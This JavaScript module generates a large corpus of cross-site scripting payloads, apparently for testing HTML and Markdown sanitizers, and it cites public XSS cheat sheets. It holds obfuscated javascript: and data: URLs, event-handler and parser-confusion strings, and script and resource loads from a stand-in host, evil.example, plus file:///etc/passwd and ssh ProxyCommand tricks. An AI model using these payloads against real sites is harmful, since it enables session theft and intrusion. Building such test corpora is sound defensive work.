// Strings that have run code in the pages of other programs, and combinations of their parts:
// ways out of the surrounding text, elements, events, schemes and their spellings. They aren't
// meant to be read.
//
// Sources: OWASP's XSS Filter Evasion Cheat Sheet, PortSwigger's XSS cheat sheet, and the
// Markdown forms in which renderers have let `javascript:` through.

/** What is to run: a dialog is seen, and so is a mark that is left. */
const CODE = "alert(xss=1)";

/** Ways out of an element, an attribute, a comment, a script, a style. */
const EXITS = [
	"",
	'">',
	"'>",
	"`>",
	'"/>',
	"</title>",
	"</textarea>",
	"</style>",
	"</script>",
	"</noscript>",
	"</a>",
	"</h2></article>",
	"-->",
	"--!>",
	"]]>",
	"<!--><",
	"<![CDATA[",
	"<a title='</a>",
	'" ',
	"' ",
	"&quot;>",
	"&#34;&#62;",
	"%22%3E",
	"\u0000",
	"\u2028",
	'\\">',
	"{{",
	"${",
];

/** Elements that run or fetch something by themselves. */
const ELEMENTS = [
	`<script>${CODE}</script>`,
	`<ScRiPt >${CODE}</sCrIpT\t>`,
	"<script src=//evil.example/x.js></script>",
	`<script/x>${CODE}</script>`,
	`<scr<script>ipt>${CODE}</scr</script>ipt>`,
	`<script>${CODE}//`,
	`<svg><script>${CODE}</script></svg>`,
	`<svg><script href=data:,${CODE} />`,
	`<math><mtext></form><form><mglyph><style></math><img src=x onerror=${CODE}>`,
	`<iframe srcdoc="&lt;script&gt;parent.${CODE}&lt;/script&gt;"></iframe>`,
	`<iframe src=javascript:${CODE}></iframe>`,
	"<iframe src=//evil.example/></iframe>",
	`<object data=javascript:${CODE}></object>`,
	"<object data=//evil.example/x></object>",
	`<embed src=javascript:${CODE}>`,
	`<base href=javascript:${CODE}//>`,
	"<base href=//evil.example/>",
	`<meta http-equiv=refresh content="0;url=javascript:${CODE}">`,
	"<meta http-equiv=refresh content=0;url=//evil.example/>",
	"<link rel=stylesheet href=//evil.example/x.css>",
	"<link rel=preload as=image href=//evil.example/x>",
	"<link rel=prefetch href=//evil.example/x>",
	"<style>@import '//evil.example/x.css';</style>",
	"<style>*{background:url(//evil.example/x)}</style>",
	"<div style=background:url(//evil.example/x)>",
	"<img src=//evil.example/x.png>",
	"<img srcset=//evil.example/x.png>",
	"<video poster=//evil.example/x.png>",
	"<audio src=//evil.example/x autoplay>",
	"<input type=image src=//evil.example/x>",
	"<body background=//evil.example/x>",
	"<table background=//evil.example/x>",
	"<image src=//evil.example/x>",
	"<svg><image href=//evil.example/x />",
	"<svg><use href=//evil.example/x#y />",
	"<form action=//evil.example/><button autofocus>",
	`<form action=javascript:${CODE}><input type=submit>`,
	`<isindex action=javascript:${CODE} type=image>`,
	`<template><script>${CODE}</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
	`<xmp><p title="</xmp><img src=x onerror=${CODE}>">`,
	`<xss id=x tabindex=1 onfocus=${CODE}></xss>`,
	"<portal src=//evil.example/>",
	"<frameset><frame src=//evil.example/></frameset>",
	"<applet code=x archive=//evil.example/x></applet>",
	`<?xml-stylesheet href="javascript:${CODE}"?>`,
	`<!ENTITY x "y"><script>${CODE}</script>`,
	`<![endif]--><script>${CODE}</script>`,
	`+ADw-script+AD4-${CODE}+ADw-/script+AD4-`,
	`\u00bcscript\u00be${CODE}\u00bc/script\u00be`,
	`\uff1cscript\uff1e${CODE}\uff1c/script\uff1e`,
	`<\u0000script>${CODE}</script>`,
	`<img src=x:alert(alt) onerror=eval(src) alt=${CODE}>`,
];

/** Elements that take events, and events that come by themselves. */
const HOSTS = [
	"a",
	"abbr",
	"audio src",
	"body",
	"button autofocus",
	"details open",
	"div",
	"form",
	"iframe",
	"img src",
	"input autofocus",
	"keygen autofocus",
	"marquee",
	"math",
	"object data",
	"p",
	"select autofocus",
	"style",
	"svg",
	"svg><animate",
	"svg><set",
	"table",
	"textarea autofocus",
	"video src",
	"video><source",
	"x",
	"bdi",
	"time",
	"mark",
	"li",
];
const EVENTS = [
	"onload",
	"onerror",
	"onfocus",
	"onfocusin",
	"ontoggle",
	"onstart",
	"onbegin",
	"onend",
	"onanimationstart",
	"ontransitionend",
	"onpageshow",
	"onresize",
	"onscroll",
	"oncanplay",
	"onloadstart",
	"onmouseover",
	"onpointerrawupdate",
	"onbeforetoggle",
	"onscrollsnapchange",
	"oncontentvisibilityautostatechange",
];
/** What may stand where a blank belongs. */
const BLANKS = [" ", "/", "\t", "\n", "\f", "\u000b", "/**/", "%0a"];

/** Addresses that run or show something of the writer's. */
const ADDRESSES = [
	`javascript:${CODE}`,
	`JaVaScRiPt:${CODE}`,
	`java\tscript:${CODE}`,
	`java\nscript:${CODE}`,
	`java&NewLine;script:${CODE}`,
	`java&Tab;script:${CODE}`,
	`&#106;avascript:${CODE}`,
	`&#x6A;avascript:${CODE}`,
	`&#0000106avascript:${CODE}`,
	`javascript&colon;${CODE}`,
	`javascript&#58;${CODE}`,
	`javascript&#x3a;${CODE}`,
	`\u0001javascript:${CODE}`,
	` javascript:${CODE}`,
	`\u00a0javascript:${CODE}`,
	`javascript://https://e.org/%0a${CODE}`,
	`javascript:/*https://e.org/*/${CODE}`,
	`jav\u0000ascript:${CODE}`,
	`%6aavascript:${CODE}`,
	`javascript%3a${CODE}`,
	`\\javascript:${CODE}`,
	`javascript\\:${CODE}`,
	`vbscript:msgbox(1)`,
	`livescript:${CODE}`,
	`data:text/html,<script>${CODE}</script>`,
	`data:text/html;base64,PHNjcmlwdD5hbGVydCh4c3M9MSk8L3NjcmlwdD4=`,
	`data:image/svg+xml,<svg onload=${CODE}>`,
	`data:,${CODE}`,
	`DATA:text/html,x`,
	`blob:http://localhost/x`,
	`filesystem:http://localhost/x`,
	`view-source:javascript:${CODE}`,
	`feed:javascript:${CODE}`,
	`jar:javascript:${CODE}!/`,
	`about:blank`,
	`file:///etc/passwd`,
	`chrome://settings/`,
	`intent://x#Intent;scheme=javascript;end`,
	`ms-msdt:/id`,
	`search-ms:query=x`,
	`ssh://-oProxyCommand=x/`,
	`//evil.example/`,
	`/\\evil.example/`,
	`\\\\evil.example\\x`,
	`https:evil.example`,
	`https:///evil.example`,
	`https://e.org/"onmouseover="${CODE}`,
	`https://e.org/'onmouseover='${CODE}`,
	`https://e.org/x" onfocus=${CODE} autofocus="`,
	`https://e.org/><script>${CODE}</script>`,
	`https://e.org\\@evil.example/`,
	`mailto:a@e.org?subject="><script>${CODE}</script>`,
];

/** How Markdown is made to have an address. @type {((address: string) => string)[]} */
const LINKS = [
	(a) => `[x](${a})`,
	(a) => `[x](<${a}>)`,
	(a) => `[x](${a} "t")`,
	(a) => `![x](${a})`,
	(a) => `![x](<${a}> 'onload=${CODE}')`,
	(a) => `<${a}>`,
	(a) => `[x]\n\n[x]: ${a}`,
	(a) => `[x][y]\n\n[y]: <${a}> "t"`,
	(a) => `[![x](${a})](${a})`,
	(a) => `<a href="${a}">x</a>`,
];

/** Markdown around HTML. @type {((html: string) => string)[]} */
const BLOCKS = [
	(h) => `\`\`\`${h}\nx\n\`\`\``,
	(h) => `\`\`\`\n${h}\n\`\`\``,
	(h) => `\`${h}\``,
	(h) => `> ${h}`,
	(h) => `- ${h}\n  - ${h}`,
	(h) => `|${h}|x|\n|-|-|\n|${h}|x|`,
	(h) => `# ${h}`,
	(h) => `*${h}*`,
	(h) => `[${h}](https://e.org "${h}")`,
	(h) => `[x](https://e.org '${h}')`,
	(h) => `- [x] ${h}`,
	(h) => `<div\n${h}\n>`,
];

const BIDI = ["\u202e", "\u2066", "\u2067", "\u200f", "\u061c"];

/** All of them, each once. */
export function payloads() {
	/** @type {string[]} */
	const all = [];
	for (const exit of EXITS) for (const element of ELEMENTS) all.push(exit + element);
	for (const [at, host] of HOSTS.entries()) {
		for (const [nth, event] of EVENTS.entries()) {
			const blank = BLANKS[(at + nth) % BLANKS.length];
			const value = host.endsWith("src") || host.endsWith("data") ? "=x" : "";
			all.push(`<${host}${value}${blank}${event}=${CODE}>`);
			all.push(`"${blank}${event}=${CODE} ${host.split(/[ >]/)[0]}="`);
		}
	}
	for (const address of ADDRESSES) {
		all.push(address);
		for (const link of LINKS) all.push(link(address));
	}
	for (const element of ELEMENTS) for (const block of BLOCKS) all.push(block(element));
	for (const mark of BIDI) for (const element of ELEMENTS) all.push(`${mark}${element}`);
	return [...new Set(all)];
}

/** Those that are an address by themselves. */
export const addresses = ADDRESSES;
